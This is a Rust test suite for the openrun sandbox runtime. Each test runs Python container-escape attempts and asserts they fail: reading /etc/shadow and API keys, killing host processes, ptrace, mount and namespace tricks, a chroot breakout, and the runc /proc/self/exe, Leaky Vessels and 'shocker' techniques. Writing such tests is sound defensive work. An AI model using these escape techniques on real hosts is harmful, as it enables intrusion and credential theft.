//! The attack suite: escape and abuse attempts by code running inside real sandboxes (as the
//! sandbox's root unless said otherwise), each a test that fails if the attack works. Every
//! test's doc comment names the attack and the defence it expects; the assertions check that
//! defence precisely (the errno or HTTP status) and that the target stayed untouched (a canary
//! file on the host, a host process, the host binary's hash, the host clock and hostname).
//!
//! Attacker code is Python (ctypes for raw system calls, x86-64 numbers) run through the
//! helpers of `common::attack`.

mod common;
use common::attack::*;
use common::server::{self, enc, Api, Server};
use common::*;

use std::os::unix::fs::MetadataExt;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use serde_json::json;

/// A unique-enough name for this test run's files (tests of one binary share a pid).
fn nonce(what: &str) -> String {
    format!(
        "ortatk-{what}-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.subsec_nanos())
            .unwrap_or(0)
    )
}

/// A server with one key and one sandbox created through the API.
struct Served {
    api: Api,
    id: String,
    _server: Server,
    env: Env,
}

fn served() -> Served {
    served_with(&[], json!({}))
}

/// A server started with `args`, one key, and one sandbox created with `body`.
fn served_with(args: &[&str], body: serde_json::Value) -> Served {
    let env = Env::new();
    let key = server::key(&env, "attacker");
    let mut all = vec!["--listen", "127.0.0.1:0"];
    all.extend_from_slice(args);
    let server = Server::start_with(&env, &all);
    let api = Api::new(&server, &key);
    let id = api.create(body)["id"].as_str().expect("id").to_string();
    Served {
        api,
        id,
        _server: server,
        env,
    }
}

impl Served {
    fn files(&self, rest: &str) -> String {
        format!("/v1/sandboxes/{}/files{rest}", self.id)
    }
    fn get_file(&self, path: &str) -> reqwest::blocking::Response {
        self.api.get(&self.files(&format!("?path={}", enc(path))))
    }
    fn post_json(&self, op: &str, body: serde_json::Value) -> reqwest::blocking::Response {
        self.api
            .post(&self.files(&format!("/{op}")), &body.to_string())
    }
    fn sh(&self, script: &str) {
        let lines = self.api.exec(&self.id, script);
        assert_eq!(server::exit_line(&lines)["code"], 0, "{script}: {lines:?}");
    }
}

/// Asserts `res` is the API error `status` `code` (showing the body if it is not); returns
/// its message.
fn expect_error(res: reqwest::blocking::Response, status: u16, code: &str) -> String {
    let got = res.status().as_u16();
    let body: serde_json::Value = res.json().unwrap_or_default();
    assert_eq!((got, body["code"].as_str()), (status, Some(code)), "{body}");
    body["message"].as_str().unwrap_or_default().to_string()
}

/// Asserts `res` has `status`, showing the body if it has not.
fn expect_status(res: reqwest::blocking::Response, status: u16) -> reqwest::blocking::Response {
    if res.status().as_u16() == status {
        return res;
    }
    let got = res.status();
    panic!(
        "expected {status}, got {got}: {}",
        res.text().unwrap_or_default()
    );
}

/// `openrun exec ID -- ARGS` in the background (output discarded).
fn spawn_exec(env: &Env, id: &str, args: &[&str]) -> Child {
    let mut all = vec!["exec", id, "--"];
    all.extend_from_slice(args);
    env.cmd(all)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn openrun exec")
}

/// Kills a background `openrun exec` client (the sandbox's `rm` ends what it started).
fn stop(mut child: Child) {
    let _ = child.kill();
    let _ = child.wait();
}

/// Waits until a process whose command line contains `needle` runs in sandbox `id`.
/// Waits until a TCP socket listens on `port` in sandbox `id` (its `/proc/net/tcp`: no
/// connection is made, so a listener that accepts once is left untouched).
fn wait_for_listener(env: &Env, id: &str, port: u16) {
    let r = attack_in(
        env,
        id,
        &format!(
            r#"
def listening():
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        fields = line.split()
        if fields[1].endswith(":{port:04X}") and fields[3] == "0A":
            return True
    return False
for _ in range(100):
    if listening():
        break
    time.sleep(0.1)
report("listening", listening())
"#
        ),
    );
    assert_eq!(
        r.get("listening"),
        "True",
        "nothing listens on {port} in {id}"
    );
}

fn wait_for_process(env: &Env, id: &str, needle: &str) {
    let r = attack_in(
        env,
        id,
        &format!(
            r#"
def running():
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != os.getpid():
            try:
                if b"{needle}" in open(f"/proc/{{p}}/cmdline", "rb").read():
                    return True
            except OSError:
                pass
    return False
for _ in range(100):
    if running():
        break
    time.sleep(0.1)
report("running", running())
"#
        ),
    );
    assert_eq!(r.get("running"), "True", "{needle} never started in {id}");
}

// ---------------------------------------------------------------------------------------------
// Reading host files

/// Attack: read the host's `/etc/shadow` directly, with `..` above `/`, through pid 1's root
/// and through `/proc/self/root/..`. Defence: the root is the sandbox's image (which has no
/// shadow file: ENOENT) and the agent (pid 1) is not dumpable, so `/proc/1/root` is EACCES.
#[test]
fn reading_the_hosts_etc_shadow() {
    let env = Env::new();
    let host = sha256_of("/etc/shadow");
    let r = attack(
        &env,
        r#"
import hashlib
for name, path in [("direct", "/etc/shadow"), ("dotdot", "/../../../../etc/shadow"),
                   ("pid1_root", "/proc/1/root/etc/shadow"),
                   ("self_root", "/proc/self/root/../../etc/shadow")]:
    attempt(name, lambda: hashlib.sha256(open(path, "rb").read()).hexdigest())
"#,
    );
    assert!(
        !r.text.contains(&host),
        "the host's shadow was read:\n{}",
        r.text
    );
    r.refused("direct", "ENOENT");
    r.refused("dotdot", "ENOENT");
    r.refused("pid1_root", "EACCES");
    r.refused("self_root", "ENOENT");
}

/// Attack: find and read files in the host's home directories (`/root`, `/home/*`) by path
/// and by walking the whole tree. Defence: the sandbox's `/root` and `/home` are its own
/// (empty); nothing of the host's is mounted anywhere in it.
#[test]
fn reading_host_home_directories() {
    let env = Env::new();
    let name = nonce("home");
    let in_root = Canary::new(format!("/root/.{name}"), false);
    let in_home = Canary::new(format!("/home/{name}/secret"), true);
    let r = attack(
        &env,
        &format!(
            r#"
for key, path in [("root", "{root}"), ("home", "{home}")]:
    attempt(key, lambda: open(path).read())
found = []
for top, dirs, files in os.walk("/"):
    if top in ("/proc", "/sys", "/usr", "/dev"):
        dirs[:] = []
        continue
    found += [os.path.join(top, f) for f in files + dirs if "{name}" in f]
report("found", found)
report("root_entries", sorted(os.listdir("/root")))
"#,
            root = in_root.path.display(),
            home = in_home.path.display(),
        ),
    );
    r.refused("root", "ENOENT");
    r.refused("home", "ENOENT");
    assert_eq!(r.get("found"), "[]");
    assert!(!r.text.contains(&in_root.content) && !r.text.contains(&in_home.content));
    in_root.assert_untouched();
    in_home.assert_untouched();
}

/// Attack: read the server's data dir (its SQLite database with key hashes, `local.json`
/// with a usable API key) from a sandbox the server made, by its host path and by walking the
/// tree. Defence: the host path does not exist in the sandbox (ENOENT), nothing is found.
#[test]
fn reading_the_servers_data_dir_and_keys() {
    let s = served();
    let data = s.env.data_dir().display().to_string();
    let local = std::fs::read_to_string(s.env.data_dir().join("local.json"))
        .expect("the server writes local.json");
    let r = attack_api(
        &s.api,
        &s.id,
        &format!(
            r#"
for key, path in [("db", "{data}/openrun.db"), ("local", "{data}/local.json"),
                  ("default", "/var/lib/openrun/openrun.db")]:
    attempt(key, lambda: open(path, "rb").read(16))
attempt("data_dir", lambda: os.listdir("{data}"))
attempt("agent_cwd", lambda: os.listdir("/proc/1/cwd"))
found = []
for top, dirs, files in os.walk("/"):
    if top in ("/proc", "/sys", "/usr", "/dev"):
        dirs[:] = []
        continue
    found += [f for f in files if f in ("openrun.db", "local.json", "openrun.db-wal")]
report("found", found)
"#
        ),
    );
    for key in ["db", "local", "default", "data_dir"] {
        r.refused(key, "ENOENT");
    }
    r.refused("agent_cwd", "EACCES");
    assert_eq!(r.get("found"), "[]");
    let key: serde_json::Value = serde_json::from_str(&local).expect("local.json");
    let key = key["key"].as_str().unwrap_or("or_");
    assert!(!r.text.contains(key));
}

/// Attack: read a file another sandbox wrote, by its host path (the writable layer's upper
/// dir on disk and in the runtime dir), through every `/proc/*/root` and `/proc/*/cwd`, and by
/// walking the tree. Defence: another sandbox's layer is in no path of this one (ENOENT) and
/// its processes are in another pid namespace.
#[test]
fn reading_another_sandboxs_layer() {
    let env = Env::new();
    let a = env.create(&[]);
    let secret = nonce("layer");
    assert_ok(&env.exec_sh(&a, &format!("echo {secret} > /root/a-secret")));
    let upper = env.upper_dir(&a);
    assert!(
        upper.join("root/a-secret").exists(),
        "the canary is in A's layer"
    );
    let layer = env.layer_dir(&a);
    let run = env.run_dir().join(&a);
    let b = env.create(&[]);
    let r = attack_in(
        &env,
        &b,
        &format!(
            r#"
for key, path in [("upper", "{upper}/root/a-secret"), ("layer", "{layer}/0/root/a-secret"),
                  ("run", "{run}"), ("layers_dir", "{layers}")]:
    attempt(key, lambda: os.listdir(path) if os.path.isdir(path) else open(path).read())
hits = []
for p in os.listdir("/proc"):
    if p.isdigit():
        for via in ("root", "cwd"):
            try:
                hits.append(open(f"/proc/{{p}}/{{via}}/root/a-secret").read())
            except OSError:
                pass
report("proc_hits", hits)
found = []
for top, dirs, files in os.walk("/"):
    if top in ("/proc", "/sys", "/usr", "/dev"):
        dirs[:] = []
        continue
    found += [f for f in files if f == "a-secret"]
report("found", found)
"#,
            upper = upper.display(),
            layer = layer.display(),
            run = run.display(),
            layers = env.data_dir().join("sandboxes").display(),
        ),
    );
    for key in ["upper", "layer", "run", "layers_dir"] {
        r.refused(key, "ENOENT");
    }
    assert_eq!(r.get("proc_hits"), "[]");
    assert_eq!(r.get("found"), "[]");
    assert!(!r.text.contains(&secret));
}

// ---------------------------------------------------------------------------------------------
// Processes

/// Attack: see a host process and kill it by its host pid (`kill`, `pidfd_open`), and find it
/// in `/proc`. Defence: the sandbox's pid namespace has no such pid (ESRCH); the host process
/// lives on.
#[test]
fn seeing_and_killing_a_host_process() {
    let env = Env::new();
    let mut host = HostProcess::sleep();
    let pid = host.pid();
    let r = attack(
        &env,
        &format!(
            r#"
report("proc_entry", os.path.exists("/proc/{pid}"))
report("kill0", sc(62, {pid}, 0))
report("kill9", sc(62, {pid}, 9))
report("pidfd", sc(434, {pid}, 0))
report("pids", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
"#
        ),
    );
    assert_eq!(r.get("proc_entry"), "False");
    r.refused("kill0", "ESRCH");
    r.refused("kill9", "ESRCH");
    r.refused("pidfd", "ESRCH");
    std::thread::sleep(Duration::from_millis(200));
    host.assert_alive();
}

/// Attack: `kill -9 -1` (every process the caller may signal). Defence: the pid namespace
/// limits it to the sandbox's own processes: a host process and another sandbox's process
/// live on, the sandbox's own background process dies, and its agent (pid 1) keeps serving.
#[test]
fn kill_minus_one_kills_only_the_sandboxs_own_processes() {
    let env = Env::new();
    let mut host = HostProcess::sleep();
    let other = env.create(&[]);
    let mut other_sleep = spawn_exec(&env, &other, &["sleep", "600"]);
    let me = env.create(&[]);
    let mut my_sleep = spawn_exec(&env, &me, &["sleep", "601"]);
    wait_for_process(&env, &other, "600");
    wait_for_process(&env, &me, "601");
    let r = attack_in(&env, &me, "report('kill', sc(62, -1, 9))");
    assert_eq!(
        r.get("kill"),
        "ok",
        "kill -1 must reach the sandbox's own processes"
    );
    let status = my_sleep.wait().expect("wait");
    assert_eq!(
        status.code(),
        Some(137),
        "the sandbox's own sleep was killed"
    );
    std::thread::sleep(Duration::from_millis(300));
    host.assert_alive();
    assert!(
        other_sleep.try_wait().expect("wait").is_none(),
        "another sandbox's process was killed"
    );
    let out = env.exec_sh(&me, "echo agent alive");
    assert_ok(&out);
    assert_eq!(stdout(&out), "agent alive\n");
    stop(other_sleep);
}

/// Attack: kill another sandbox's processes (its agent and a sleep) by their host pids, read
/// from that sandbox's cgroup. Defence: they are not in this sandbox's pid namespace (ESRCH).
#[test]
fn killing_another_sandboxs_processes_by_host_pid() {
    let env = Env::new();
    let victim = env.create(&[]);
    let mut sleep = spawn_exec(&env, &victim, &["sleep", "600"]);
    wait_for_process(&env, &victim, "600");
    let pids = cgroup_procs(&victim);
    assert!(pids.len() >= 2, "agent and sleep: {pids:?}");
    let attacker = env.create(&[]);
    let r = attack_in(
        &env,
        &attacker,
        &format!(
            r#"
for p in {pids:?}:
    report(f"kill_{{p}}", sc(62, p, 9))
    report(f"pidfd_{{p}}", sc(434, p, 0))
"#
        ),
    );
    for pid in &pids {
        r.refused(&format!("kill_{pid}"), "ESRCH");
        r.refused(&format!("pidfd_{pid}"), "ESRCH");
    }
    std::thread::sleep(Duration::from_millis(200));
    assert!(
        sleep.try_wait().expect("wait").is_none(),
        "the victim's process died"
    );
    assert_ok(&env.exec_sh(&victim, "true"));
    stop(sleep);
}

/// Attack: kill the agent (pid 1) with every fatal or stopping signal. Defence: the kernel
/// ignores signals sent from inside a pid namespace to its init that it does not handle; the
/// agent keeps serving exec.
#[test]
fn killing_the_agent_from_inside() {
    let env = Env::new();
    let id = env.create(&[]);
    let pid_before = env.inspect(&id)["pid"].clone();
    let r = attack_in(
        &env,
        &id,
        r#"
for sig in (9, 19, 15, 1, 2, 3, 6, 10, 11, 12, 13, 14):
    report(f"sig{sig}", sc(62, 1, sig))
"#,
    );
    assert_eq!(r.get("sig9"), "ok", "the signal is accepted, then dropped");
    std::thread::sleep(Duration::from_millis(300));
    let out = env.exec_sh(&id, "echo still serving");
    assert_ok(&out);
    assert_eq!(stdout(&out), "still serving\n");
    assert_eq!(env.inspect(&id)["pid"], pid_before);
}

// ---------------------------------------------------------------------------------------------
// The agent's control socket (moved here from agent_socket.rs)

/// Looks, from inside the sandbox, for any Unix socket on its filesystems (host `/usr` aside:
/// it is the host's read-only userland), for the agent's descriptors, and tries to trace it.
const AGENT_SOCKET_PROBE: &str = r#"
import ctypes, os, stat
found = []
for top in ["/"]:
    for root, dirs, files in os.walk(top):
        if root in ("/proc", "/sys", "/usr"):
            dirs[:] = []
            continue
        for name in files + dirs:
            path = os.path.join(root, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    found.append(path)
            except OSError:
                pass
print("sockets:", found)
try:
    print("agent fds:", os.listdir("/proc/1/fd"))
except OSError as e:
    print("agent fds: denied", e.errno)
try:
    os.open("/proc/1/mem", os.O_RDONLY)
    print("agent mem: opened")
except OSError as e:
    print("agent mem: denied", e.errno)
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
r = libc.ptrace(PTRACE_ATTACH, 1, None, None)
print("ptrace:", "attached" if r == 0 else "denied %d" % ctypes.get_errno())
"#;

/// Attack: reach the agent's control socket (which can exec as any user, change the sandbox's
/// lifetime and read any file): find any Unix socket, open it through the agent's descriptors,
/// read its memory, ptrace it. Defence: the socket is only on the host side, and the agent is
/// non-dumpable (its `/proc/1/fd` and `/proc/1/mem` are EACCES, ptrace EPERM).
#[test]
fn code_in_a_sandbox_cannot_reach_its_agents_socket() {
    let env = Env::new();
    let id = env.create(&[]);
    let socket = env.socket(&id);
    assert!(socket.exists(), "the host side has the socket: {socket:?}");
    let out = env.output(["exec", &id, "--", "python3", "-c", AGENT_SOCKET_PROBE]);
    assert_ok(&out);
    let text = stdout(&out);
    let line = |prefix: &str| {
        text.lines()
            .find(|l| l.starts_with(prefix))
            .unwrap_or_else(|| panic!("no {prefix} line in {text}"))
            .to_string()
    };
    assert_eq!(line("sockets:"), "sockets: []", "{text}");
    assert!(
        line("agent fds:").starts_with("agent fds: denied"),
        "{text}"
    );
    assert!(
        line("agent mem:").starts_with("agent mem: denied"),
        "{text}"
    );
    assert!(line("ptrace:").starts_with("ptrace: denied"), "{text}");
    assert_ok(&env.output(["rm", &id]));
}

// ---------------------------------------------------------------------------------------------
// ptrace

/// Attack: from one exec session, trace or read the memory of another session's process
/// (`PTRACE_ATTACH`, `PTRACE_SEIZE`, `process_vm_readv`, `/proc/<pid>/mem` and `environ`).
/// Defence: every exec session is its own Landlock domain, which scopes ptrace to the
/// session's own processes (EPERM / EACCES) — while the session can still trace its own child.
#[test]
fn ptrace_of_another_exec_sessions_process() {
    let env = Env::new();
    let id = env.create(&[]);
    let victim = spawn_exec(&env, &id, &["sleep", "600"]);
    wait_for_process(&env, &id, "600");
    let r = attack_in(
        &env,
        &id,
        r#"
victim = next(int(p) for p in os.listdir("/proc") if p.isdigit()
              and open(f"/proc/{p}/cmdline", "rb").read() == b"sleep\x00600\x00")
report("attach", sc(101, 16, victim, 0, 0))
report("seize", sc(101, 0x4206, victim, 0, 0))
buf = ctypes.create_string_buffer(64)
local = struct.pack("QQ", ctypes.addressof(buf), 64)
remote = struct.pack("QQ", 0x400000, 64)
report("vm_readv", sc(310, victim, ctypes.create_string_buffer(local), 1,
                      ctypes.create_string_buffer(remote), 1, 0))
attempt("mem", lambda: os.close(os.open(f"/proc/{victim}/mem", os.O_RDONLY)))
attempt("environ", lambda: open(f"/proc/{victim}/environ", "rb").read())
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
report("own_child", sc(101, 16, child, 0, 0))
os.kill(child, 9)
"#,
    );
    r.refused("attach", "EPERM");
    r.refused("seize", "EPERM");
    r.refused("vm_readv", "EPERM");
    r.refused("mem", "EACCES");
    r.refused("environ", "EACCES");
    assert_eq!(
        r.get("own_child"),
        "ok",
        "a session traces its own children"
    );
    stop(victim);
}

// ---------------------------------------------------------------------------------------------
// Mounts, namespaces, roots

/// Attack: mount a fresh `proc`, `sysfs`, `tmpfs`, `devpts` or a bind of `/proc/1/root`, with
/// `mount(2)` and with the new mount API (`fsopen`, `open_tree`). Defence: no CAP_SYS_ADMIN and
/// the seccomp filter refuses the whole mount family (EPERM).
#[test]
fn mounting_proc_sysfs_and_tmpfs_anew() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
os.makedirs("/tmp/m", exist_ok=True)
for fs in ("proc", "sysfs", "tmpfs", "devpts", "cgroup", "cgroup2"):
    report(f"mount_{fs}", sc(165, fs.encode(), b"/tmp/m", fs.encode(), 0, None))
report("bind_agent_root", sc(165, b"/proc/1/root", b"/tmp/m", None, 0x1000, None))
report("fsopen", sc(430, b"tmpfs", 0))
report("open_tree", sc(428, -100, b"/", 1))
"#,
    );
    for fs in ["proc", "sysfs", "tmpfs", "devpts", "cgroup", "cgroup2"] {
        r.refused(&format!("mount_{fs}"), "EPERM");
    }
    r.refused("bind_agent_root", "EPERM");
    r.refused("fsopen", "EPERM");
    r.refused("open_tree", "EPERM");
}

/// Attack: make a nested user namespace (root with every capability over new namespaces,
/// the door to mounting `proc` without masks, `sethostname` and most unprivileged kernel
/// exploits), by `unshare` and by `clone`. Defence: the seccomp filter refuses namespace
/// flags (EPERM).
#[test]
fn a_nested_user_namespace_is_refused() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
CLONE_NEWNS, CLONE_NEWUTS, CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWNET = 0x20000, 0x4000000, 0x10000000, 0x20000000, 0x40000000
def fork_in(name, flags):
    v = libc.syscall(ctypes.c_long(56), ctypes.c_long(flags | 17), None, None, None, None)
    if v == 0:
        os._exit(0)
    if v > 0:
        os.waitpid(v, 0)
        report(name, "ok")
    else:
        report(name, err(ctypes.get_errno()))
fork_in("clone_user", CLONE_NEWUSER)
fork_in("clone_user_pid", CLONE_NEWUSER | CLONE_NEWPID)
pid = os.fork()
if pid == 0:
    report("unshare_user", sc(272, CLONE_NEWUSER))
    report("unshare_user_ns", sc(272, CLONE_NEWUSER | CLONE_NEWNS))
    report("unshare_uts", sc(272, CLONE_NEWUTS))
    report("unshare_net", sc(272, CLONE_NEWNET))
    os._exit(0)
os.waitpid(pid, 0)
"#,
    );
    for key in [
        "clone_user",
        "clone_user_pid",
        "unshare_user",
        "unshare_user_ns",
        "unshare_uts",
        "unshare_net",
    ] {
        r.refused(key, "EPERM");
    }
}

/// Attack: unmount what hides the host (`/proc`, `/sys`, `/dev`, the bound `/etc/hostname`,
/// `/`), lazily too. Defence: no CAP_SYS_ADMIN plus the seccomp filter (EPERM); the mounts stay.
#[test]
fn unmounting_proc_sys_and_the_root() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
before = open("/proc/self/mountinfo").read()
for path in ("/proc", "/sys", "/dev", "/etc/hostname", "/tmp", "/"):
    report(f"umount_{path}", sc(166, path.encode(), 0))
    report(f"detach_{path}", sc(166, path.encode(), 2))
report("unchanged", open("/proc/self/mountinfo").read() == before)
"#,
    );
    for path in ["/proc", "/sys", "/dev", "/etc/hostname", "/tmp", "/"] {
        r.refused(&format!("umount_{path}"), "EPERM");
        r.refused(&format!("detach_{path}"), "EPERM");
    }
    assert_eq!(r.get("unchanged"), "True");
}

/// Attack: `pivot_root` into a directory of one's own (to shed the sandbox's mounts).
/// Defence: no CAP_SYS_ADMIN plus the seccomp filter (EPERM).
#[test]
fn pivot_root_into_a_new_root() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
os.makedirs("/tmp/newroot/old", exist_ok=True)
report("pivot", sc(155, b"/tmp/newroot", b"/tmp/newroot/old"))
os.chdir("/tmp/newroot")
report("pivot_dot", sc(155, b".", b"."))
"#,
    );
    r.refused("pivot", "EPERM");
    r.refused("pivot_dot", "EPERM");
}

/// Attack: the classic chroot breakout: keep a descriptor of `/`, chroot into a
/// subdirectory, `fchdir` back out, climb with `..` and chroot there. Defence: the sandbox's
/// root is its mount namespace's root after `pivot_root` (the host's tree is detached), so
/// climbing ends at the sandbox's own `/`: its hostname, none of the host's files.
#[test]
fn chroot_breakout_with_a_retained_directory_fd() {
    let env = Env::new();
    let canary = Canary::new(format!("/tmp/{}", nonce("chroot")), false);
    let host_name = std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname");
    let r = attack(
        &env,
        &format!(
            r#"
os.makedirs("/tmp/jail", exist_ok=True)
fd = os.open("/", os.O_RDONLY)
attempt("chroot", lambda: os.chroot("/tmp/jail"))
os.fchdir(fd)
for _ in range(64):
    os.chdir("..")
attempt("chroot_dot", lambda: os.chroot("."))
report("hostname", open("/etc/hostname").read().strip())
report("canary", os.path.exists("{canary}"))
st_root, st_up = os.stat("/"), os.stat("/..")
report("root_is_top", (st_root.st_dev, st_root.st_ino) == (st_up.st_dev, st_up.st_ino))
"#,
            canary = canary.path.display()
        ),
    );
    assert_eq!(
        r.get("chroot"),
        "ok",
        "chroot itself is allowed (it only narrows)"
    );
    assert_eq!(r.get("chroot_dot"), "ok");
    let hostname = r.get("hostname");
    assert_eq!(hostname.len(), 12, "{}", r.text);
    assert_ne!(hostname, host_name.trim());
    assert_eq!(r.get("canary"), "False", "the host's /tmp was reached");
    assert_eq!(r.get("root_is_top"), "True");
    canary.assert_untouched();
}

// ---------------------------------------------------------------------------------------------
// The runtime binary

/// Attack (CVE-2019-5736, runc): make the agent exec the runtime binary itself
/// (`exec -- /proc/self/exe`, so the host's openrun binary runs inside), then open it for
/// writing through `/proc/<pid>/exe` while it runs and, through a kept `O_PATH` descriptor,
/// after it exited; also through `/proc/1/exe` and `/proc/self/exe`. Defence: the running
/// binary is busy (ETXTBSY), the host file belongs to a host uid that the sandbox's root has
/// no power over (EACCES), the agent is non-dumpable (EACCES); the binary's hash is unchanged.
#[test]
fn overwriting_the_runtime_binary_through_proc_exe() {
    let env = Env::new();
    let binary = env!("CARGO_BIN_EXE_openrun");
    let before = sha256_of(binary);
    let python = std::fs::canonicalize("/usr/bin/python3").expect("python3");
    let python_before = sha256_of(&python);
    let id = env.create(&[]);
    // A listener that never answers, so the openrun binary started inside waits on it.
    let listener = spawn_exec(
        &env,
        &id,
        &[
            "python3",
            "-c",
            "import socket, time  # silent-listener\ns = socket.socket()\n\
             s.bind(('127.0.0.1', 7000)); s.listen()\nc = s.accept(); time.sleep(60)",
        ],
    );
    wait_for_process(&env, &id, "silent-listener");
    // Listening, not only started: a runtime that found the port closed would exit at once.
    wait_for_listener(&env, &id, 7000);
    let mut runtime = spawn_exec(
        &env,
        &id,
        &[
            "/proc/self/exe",
            "--server",
            "http://127.0.0.1:7000",
            "--api-key",
            "waiting-on-a-silent-server",
            "ps",
        ],
    );
    let r = attack_in(
        &env,
        &id,
        r#"
target = None
for _ in range(100):
    for p in os.listdir("/proc"):
        try:
            if (p.isdigit() and int(p) != os.getpid() and
                    b"waiting-on-a-silent-server" in open(f"/proc/{p}/cmdline", "rb").read()):
                target = int(p)
        except OSError:
            pass
    if target:
        break
    time.sleep(0.1)
report("found", target is not None)
if target:
    attempt("running_write", lambda: os.open(f"/proc/{target}/exe", os.O_WRONLY))
    keep = None
    try:
        keep = os.open(f"/proc/{target}/exe", os.O_PATH)
        report("opath", "ok")
    except OSError as e:
        report("opath", err(e.errno))
    os.kill(target, 9)
    for _ in range(100):
        if not os.path.exists(f"/proc/{target}"):
            break
        time.sleep(0.05)
    if keep is not None:
        attempt("exited_write", lambda: os.open(f"/proc/self/fd/{keep}", os.O_WRONLY))
        attempt("exited_trunc", lambda: os.open(f"/proc/self/fd/{keep}", os.O_WRONLY | os.O_TRUNC))
attempt("agent_exe", lambda: os.open("/proc/1/exe", os.O_WRONLY))
attempt("self_exe", lambda: os.open("/proc/self/exe", os.O_WRONLY))
"#,
    );
    let status = runtime.wait().expect("wait");
    if r.get("found") == "True" {
        r.refused_with_any("running_write", &["ETXTBSY", "EACCES"]);
        if r.get("opath") == "ok" {
            r.refused("exited_write", "EACCES");
            r.refused("exited_trunc", "EACCES");
        } else {
            r.refused("opath", "EACCES");
        }
    } else {
        // The agent may refuse to run a magic link at all; then nothing ran to attack.
        assert!(
            matches!(status.code(), Some(126 | 127)),
            "the runtime never ran inside, yet the exec was not refused: {status:?}\n{}",
            r.text
        );
    }
    r.refused("agent_exe", "EACCES");
    r.refused("self_exe", "ETXTBSY");
    stop(listener);
    assert_eq!(sha256_of(binary), before, "the openrun binary was changed");
    assert_eq!(
        sha256_of(&python),
        python_before,
        "the host's python was changed"
    );
}

/// Attack (CVE-2024-21626, "Leaky Vessels"): start a command whose working directory is a
/// descriptor the runtime might have leaked (`/proc/self/fd/3`... as runc's `WORKDIR` attack
/// did) or the agent's own cwd and root, then climb from there; and look for any inherited
/// descriptor in a fresh process. Defence: the agent resolves the working directory inside the
/// sandbox and refuses magic links to other processes (the command does not start, naming the
/// path); a started process holds only its stdio.
#[test]
fn leaky_vessels_working_directory_through_proc_fds() {
    let env = Env::new();
    let id = env.create(&[]);
    for workdir in [
        "/proc/self/fd/3",
        "/proc/self/fd/4",
        "/proc/self/fd/5",
        "/proc/self/fd/7",
        "/proc/self/fd/9",
        "/proc/1/cwd",
        "/proc/1/root",
        "/proc/1/fd/3",
    ] {
        let out = env.output([
            "exec",
            "-w",
            workdir,
            &id,
            "--",
            "sh",
            "-c",
            "cd ../../../..; ls -a",
        ]);
        assert!(
            !out.status.success(),
            "started in {workdir}: {}",
            stdout(&out)
        );
        assert!(
            stderr(&out).contains(workdir),
            "{workdir}: {}",
            stderr(&out)
        );
    }
    let r = attack_in(
        &env,
        &id,
        r#"
entries = {}
for f in os.listdir("/proc/self/fd"):
    try:
        entries[int(f)] = os.readlink(f"/proc/self/fd/{f}")
    except OSError:
        pass  # the listing's own descriptor, closed by now
listing = f"/proc/{os.getpid()}/fd"
fds = sorted(fd for fd, target in entries.items() if target != listing)
report("fds", fds)
report("targets", sorted(set(entries[fd].split(":")[0] for fd in fds)))
"#,
    );
    assert_eq!(r.get("fds"), "[0, 1, 2]", "{}", r.text);
    assert_eq!(r.get("targets"), "['/dev/null', 'pipe']", "{}", r.text);
}

/// Attack ("shocker"): open host files by handle — an ext4-style handle for inode 2 (a root
/// directory) with descriptors of every mount (`/`, `/usr`, `/dev`, `/tmp`), and
/// `name_to_handle_at` to learn real handles. Defence: the seccomp filter refuses both calls
/// (EPERM); nothing is opened.
#[test]
fn open_by_handle_at_shocker() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, 2, 0))
for name, path in (("root", "/"), ("usr", "/usr"), ("dev", "/dev"), ("tmp", "/tmp")):
    d = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
    report(f"open_{name}", sc(304, d, handle, os.O_RDONLY))
mount_id = ctypes.c_int()
buf = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
report("name_to_handle", sc(303, -100, b"/tmp", buf, ctypes.byref(mount_id), 0))
"#,
    );
    for name in ["root", "usr", "dev", "tmp"] {
        r.refused(&format!("open_{name}"), "EPERM");
    }
    r.refused("name_to_handle", "EPERM");
}

// ---------------------------------------------------------------------------------------------
// Devices

/// Attack: make device nodes for memory (`c 1 1`, `/dev/kmem`), KVM (`c 10 232`), `null`, and
/// block devices (`/dev/sda` `b 8 0`, `/dev/vda` `b 253 0`) in every writable place. Defence:
/// the sandbox's Landlock domain refuses device nodes to everyone (EACCES); without Landlock,
/// the dropped CAP_MKNOD and the user namespace do (EPERM).
#[test]
fn mknod_of_memory_kvm_and_block_devices() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
import stat
nodes = {"mem": (stat.S_IFCHR, 1, 1), "kmem": (stat.S_IFCHR, 1, 2), "null": (stat.S_IFCHR, 1, 3),
         "kvm": (stat.S_IFCHR, 10, 232), "sda": (stat.S_IFBLK, 8, 0), "vda": (stat.S_IFBLK, 253, 0)}
for where in ("/tmp", "/root", "/dev/shm"):
    for name, (kind, major, minor) in nodes.items():
        attempt(f"{where}/{name}", lambda: os.mknod(f"{where}/{name}", kind | 0o666, os.makedev(major, minor)))
"#,
    );
    let results = r.all("/");
    assert_eq!(results.len(), 18, "{}", r.text);
    for (node, _) in results {
        r.refused_with_any(node, &["EACCES", "EPERM"]);
    }
}

/// Attack: open host devices by their usual names (`/dev/mem`, `/dev/kvm`, disks, `/dev/fuse`,
/// `/dev/net/tun`, `/dev/userfaultfd`, consoles, vsock) and add a node to `/dev`. Defence: the
/// sandbox's `/dev` is a read-only template of six harmless nodes (ENOENT; EROFS to add).
#[test]
fn opening_host_devices() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
for dev in ("mem", "kmem", "port", "kvm", "sda", "vda", "nvme0n1", "loop0", "fuse", "net/tun",
